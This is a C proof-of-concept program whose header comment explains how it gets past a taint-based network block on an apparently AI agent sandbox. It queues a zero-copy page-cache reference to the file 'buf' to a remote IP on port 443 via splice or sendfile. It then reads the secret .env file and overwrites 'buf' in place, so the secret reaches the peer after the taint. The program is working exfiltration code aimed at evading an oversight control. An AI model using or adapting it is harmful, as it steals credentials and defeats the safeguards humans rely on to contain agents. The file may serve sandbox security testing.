// rewrite IP [MODE]: sends PRE (a plain write); then, clean, connects to IP:443 and
// gives it the first page of its own file "buf" by splice (file -> pipe -> socket):
// the skb carries a reference to the page-cache folio. Closes the socket. Then reads
// the secret .env (the taint: every socket is shut down, no connect or send after)
// and writes it into "buf" in place (pwrite, no truncation): the folio in the queues
// now holds the secret, and the peer, reading late, receives it.
// MODE "sendfile": sendfile(socket, buf) instead of the two splices (the same).
// MODE "copy" (control): the same with read()+write() into the socket (a copy sent).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/sendfile.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  int copy=argc>2&&!strcmp(argv[2],"copy"), sf=argc>2&&!strcmp(argv[2],"sendfile");
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int s=socket(AF_INET,SOCK_STREAM,0); if(s<0){perror("socket");return 1;}
  struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)}; inet_pton(AF_INET,ip,&a.sin_addr);
  if(connect(s,(void*)&a,sizeof a)<0){perror("connect");return 1;}
  if(write(s,"LEAK:",5)!=5){perror("write");return 1;}
  int fd=open("buf",O_RDWR); if(fd<0){perror("open buf");return 1;}
  if(copy){ char b[64]; ssize_t n=pread(fd,b,40,0); printf("control: read+write %zd\n",write(s,b,n)); }
  else if(sf){ off_t o=0; ssize_t m=sendfile(s,fd,&o,40); printf("sendfile buf->socket: %zd%s%s\n",m,m<0?" ":"",m<0?strerror(errno):""); }
  else { int p[2]; if(pipe(p)){perror("pipe");return 1;}
    ssize_t n=splice(fd,NULL,p[1],NULL,40,0); printf("splice buf->pipe: %zd\n",n); if(n<=0) return 1;
    ssize_t m=splice(p[0],NULL,s,NULL,n,0); printf("splice pipe->socket: %zd%s%s\n",m,m<0?" ":"",m<0?strerror(errno):"");
    close(p[0]); close(p[1]); }
  close(s); printf("socket closed (clean so far)\n");
  char sec[64]={0}; int e=open(".env",O_RDONLY); if(e<0){perror("open .env");return 1;}
  ssize_t k=read(e,sec,40); close(e); printf("read the secret (.env): %zd bytes\n",k);
  printf("after the taint, a new send: %d (refused expected)\n", send_buf(ip,"AFTER",5));
  ssize_t w=pwrite(fd,sec,k,0); printf("pwrite of the secret into buf (in place): %zd\n",w);
  sleep(1); printf("agent exits\n"); return 0; }
